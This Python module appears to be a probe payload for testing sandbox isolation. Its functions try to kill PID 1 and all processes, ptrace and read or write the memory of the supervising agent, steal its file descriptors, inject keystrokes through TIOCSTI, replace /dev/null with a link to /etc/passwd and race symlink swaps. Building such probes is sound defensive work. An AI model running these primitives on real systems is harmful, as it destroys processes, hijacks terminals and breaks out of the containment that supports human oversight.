"""Getting at the agent, the result and the terminal."""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import stat
import struct
import sys
import termios
import time
from contextlib import suppress
from typing import Any

from dutyfree.probe.payload.kernel import call, name_of


def kill_all() -> dict[str, Any]:
    """Every signal to PID 1, then SIGKILL to everybody: this one ends us too where it may."""
    sys.stdout.write("trying\n")
    sys.stdout.flush()
    for number in sorted(signal.valid_signals()):
        for target in (1, os.getppid()):
            if target > 0:
                with suppress(OSError):
                    os.kill(target, number)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as error:
        return {"result": error.strerror}
    return {"result": "ok"}


def attack_agent(pids: list[int]) -> dict[str, Any]:
    """Trace PID 1 and our parent, read and write their memory, take their descriptors."""
    reached = []
    for pid in sorted({1, os.getppid(), *pids} - {0}):
        # PTRACE_SEIZE, PTRACE_ATTACH
        reached += [f"ptrace {pid}" for request in (0x4206, 16) if call("ptrace", request, pid, 0, 0) == 0]
        reached += [f"{name} of {pid}" for name in ("mem", "environ", "maps", "auxv") if _opens(pid, name)]
        buffer = ctypes.create_string_buffer(16)
        local = struct.pack("=QQ", ctypes.addressof(buffer), 16)
        remote = struct.pack("=QQ", 0x400000, 16)
        if call("process_vm_readv", pid, local, 1, remote, 1, 0) > 0:
            reached.append(f"memory of {pid}")
        reached += [f"descriptor {fd} of {pid}" for fd in _steal(pid)]
    return {"reached": reached}


def _opens(pid: int, name: str) -> bool:
    """Opened, and something is readable: the kernel checks some of these only at the read."""
    try:
        fd = os.open(f"/proc/{pid}/{name}", os.O_RDWR if name == "mem" else os.O_RDONLY)
    except OSError:
        return False
    try:
        return name == "mem" or bool(os.read(fd, 1))
    except OSError:
        return False
    finally:
        os.close(fd)


def _steal(pid: int) -> list[int]:
    """Descriptors of another process that we could get a copy of; what comes is written to."""
    pidfd = call("pidfd_open", pid, 0)
    got = []
    for number in range(64):
        fd = call("pidfd_getfd", pidfd, number, 0) if pidfd >= 0 else -1
        if fd < 0:
            try:
                fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR)
            except OSError:
                continue
        got.append(number)
        with suppress(OSError):
            os.write(fd, bytes(64))
        os.close(fd)
    return got


def speak(stdout_hex: str, stderr_hex: str, code: int) -> dict[str, Any]:
    """Exactly these bytes, this exit code, and nothing else."""
    os.write(1, bytes.fromhex(stdout_hex))
    os.write(2, bytes.fromhex(stderr_hex))
    os._exit(code)


def write_after_exit() -> dict[str, Any]:
    """A child keeps stdout and goes on writing when its parent is gone."""
    if os.fork() == 0:
        os.setsid()
        signal.alarm(20)
        while True:
            os.write(1, b"late\n")
    os.close(2)
    os.write(1, b"parent\n")
    os._exit(7)


def type_into_terminal() -> dict[str, Any]:
    """TIOCSTI: characters that the next reader of the terminal takes for typed."""
    results = {}
    for path in ("/dev/tty", "/proc/self/fd/0", "/dev/console", "/dev/tty1"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError as error:
            results[path] = error.strerror
            continue
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            results[path] = "ok"
        except OSError as error:
            results[path] = error.strerror
        finally:
            os.close(fd)
    return {"typed": [path for path, result in results.items() if result == "ok"], "results": results}


def swap_null() -> dict[str, Any]:
    """Replace what the next command's start opens."""
    done = []
    for path in ("/dev/null", "/dev/tty", "/dev/pts/ptmx", "/dev/ptmx"):
        for work in (os.unlink, lambda name: os.rename(name, name + ".old")):
            try:
                work(path)
            except OSError:
                continue
            os.symlink("/etc/passwd", path)
            done.append(path)
            break
    return {"swapped": done}


def swap_names(target: str, times: int, seconds: float) -> dict[str, Any]:
    """Exchange a file with a link to the target, again and again."""
    os.makedirs("/tmp/swap", exist_ok=True)  # noqa: S108
    with open("/tmp/swap/a", "w") as file:  # noqa: S108
        file.write("own")
    os.symlink(target, "/tmp/swap/b")  # noqa: S108
    exchange = ctypes.CDLL(None).renameat2
    end = time.monotonic() + seconds
    swaps = 0
    while swaps < times and time.monotonic() < end:
        for _ in range(1000):
            exchange(-100, b"/tmp/swap/a", -100, b"/tmp/swap/b", 2)
        swaps += 1000
    return {"swaps": swaps}


def find_agent() -> dict[str, Any]:
    """Every socket that can be seen by name or number, and the descriptors of PID 1 by theirs."""
    reached = []
    names = {line.split()[-1] for line in _lines("/proc/net/unix") if len(line.split()) > 7}
    ports = [
        int(line.split()[1].rpartition(":")[2], 16) for name in ("tcp", "tcp6") for line in _lines(f"/proc/net/{name}")
    ]
    targets: list[tuple[int, Any]] = [(socket.AF_UNIX, name.replace("@", "\0", 1)) for name in names]
    targets += [(socket.AF_INET, ("127.0.0.1", port)) for port in ports]
    for family, address in targets:
        with socket.socket(family, socket.SOCK_STREAM) as stream:
            stream.settimeout(0.5)
            with suppress(OSError):
                stream.connect(address)
                reached.append(str(address))
                stream.send(bytes(64))
    reached += [f"descriptor {fd} of 1" for fd in _steal(1)]
    reached += [f"our own descriptor {fd}" for fd in range(3, 1024) if _is_socket(fd)]
    return {"reached": reached}


def _lines(path: str) -> list[str]:
    with suppress(OSError), open(path) as file:
        return file.read().splitlines()[1:]
    return []


def _is_socket(fd: int) -> bool:
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


def euid() -> dict[str, Any]:
    """Report the effective user."""
    return {"euid": os.geteuid(), "uid": os.getuid(), "setuid": name_of(0)}


ATTEMPTS = {
    "kill-all": kill_all,
    "attack-agent": attack_agent,
    "speak": speak,
    "write-after-exit": write_after_exit,
    "type-into-terminal": type_into_terminal,
    "swap-null": swap_null,
    "swap-names": swap_names,
    "find-agent": find_agent,
    "euid": euid,
}
